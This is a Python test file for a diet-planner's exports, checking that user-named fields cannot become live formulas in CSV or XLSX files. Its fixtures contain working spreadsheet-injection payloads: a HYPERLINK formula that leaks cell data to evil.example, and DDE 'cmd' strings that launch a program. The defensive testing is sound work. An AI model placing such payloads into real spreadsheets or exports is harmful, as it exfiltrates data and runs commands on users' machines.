"""OWASP CSV injection: text a user controls (food, portion and supplement names, meal names, client names, batch
reasons) never becomes a live formula in a CSV or XLSX export; numbers stay numbers. Read back with the csv module
and with openpyxl (what Excel would see)."""

from __future__ import annotations

import csv
import io
from datetime import date

import openpyxl
import pandas as pd
import pytest

from optimizer.dietitian.batch import BatchOutcome, BatchResult, write_batch_outputs
from optimizer.io.cells import safe_frame, safe_text
from optimizer.io.export import plan_to_csv, plan_to_excel_bytes
from tests.optimizer.conftest import sample_plan as make_plan

EVIL_FOOD = '=HYPERLINK("http://evil.example/?leak="&A1,"Oats")'
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def evil_plan():
    """make_plan() with hostile text in every user-named field and a negative (refund) cost."""
    plan = make_plan(days=1)
    items = [r.model_copy(update={"food": EVIL_FOOD if i == 0 else "@SUM(1+1)*cmd|' /C calc'!A0",
                                  "portion_name": "+1 cup", "cost": -0.25 if i == 0 else r.cost})
             for i, r in enumerate(plan.item_rows)]
    supps = [r.model_copy(update={"supplement": "-2+3 vitamin D"}) for r in plan.supplement_rows]
    return plan.model_copy(update={"item_rows": items, "supplement_rows": supps})


def live_formulas(rows) -> list[str]:
    return [cell for row in rows for cell in row if isinstance(cell, str) and cell.startswith(TRIGGERS)
            and not _plain(cell)]


def _plain(text: str) -> bool:
    return text in ("-", "+") or safe_text(text) == text


@pytest.mark.parametrize("text, expected", [
    (EVIL_FOOD, "'" + EVIL_FOOD), ("+1 cup", "'+1 cup"), ("-2+3", "'-2+3"), ("@SUM(A1)", "'@SUM(A1)"),
    ("\t=1", "'\t=1"), ("\r=1", "'\r=1"), ("-", "-"), ("-2.5", "-2.5"), ("1e3", "1e3"), ("Oats", "Oats"), (3, 3),
    (-2.5, -2.5), (None, None),
])
def test_safe_text(text, expected):
    assert safe_text(text) == expected


def test_plan_csv_has_no_live_formula_and_numbers_stay_numbers():
    text = plan_to_csv(evil_plan())
    rows = list(csv.reader(io.StringIO(text)))
    assert not live_formulas(rows)
    assert any(cell == "'" + EVIL_FOOD for row in rows for cell in row)
    frame = pd.read_csv(io.StringIO(text), dtype={"food_id": str})
    assert frame["cost"].iloc[0] == -0.25 and pd.api.types.is_float_dtype(frame["cost"])


def test_xlsx_every_sheet_has_no_formula_and_numbers_stay_numeric():
    data = plan_to_excel_bytes(evil_plan(), client_name="=cmd|' /C calc'!A0", week_start=date(2026, 11, 30))
    book = openpyxl.load_workbook(io.BytesIO(data))
    assert book.sheetnames == ["Plan", "Week", "Supplements", "Nutrients", "Shopping list", "About"]
    seen = ""
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{sheet.title}!{cell.coordinate} is a formula: {cell.value!r}"
                if isinstance(cell.value, str):
                    assert not cell.value.startswith(TRIGGERS) or _plain(cell.value), (sheet.title, cell.value)
                    seen += cell.value + "\n"
    assert "'" + EVIL_FOOD in seen and "'=cmd|' /C calc'!A0" in seen and "'-2+3 vitamin D" in seen
    plan_sheet = book["Plan"]
    header = [c.value for c in plan_sheet[1]]
    cost = plan_sheet.cell(row=2, column=header.index("cost") + 1)
    assert cost.value == -0.25 and cost.data_type == "n"
    grams = plan_sheet.cell(row=2, column=header.index("grams") + 1)
    assert grams.data_type == "n"


def test_meal_names_in_the_week_grid_index_are_neutralised():
    frame = pd.DataFrame({"=day 1": ["@x", "ok"]}, index=pd.Index(["=lunch", "dinner"], name="meal"))
    safe = safe_frame(frame)
    assert list(safe.index) == ["'=lunch", "dinner"] and list(safe.columns) == ["'=day 1"]
    assert list(safe.iloc[:, 0]) == ["'@x", "ok"]


def test_batch_summary_csv(tmp_path):
    result = BatchResult([
        BatchOutcome("=HYPERLINK(\"http://evil.example\")", "planned", make_plan(days=1), "", 1.5),
        BatchOutcome("Bea", "error", None, "-1+1 went wrong", 0.25),
    ])
    summary = write_batch_outputs(result, tmp_path / "out", pdf=False)
    rows = list(csv.reader(summary.open(encoding="utf-8")))
    assert not live_formulas(rows)
    assert rows[1][0] == "'=HYPERLINK(\"http://evil.example\")" and rows[2][-2] == "'-1+1 went wrong"
    frame = pd.read_csv(summary)
    assert frame["seconds"].tolist() == [1.5, 0.25]
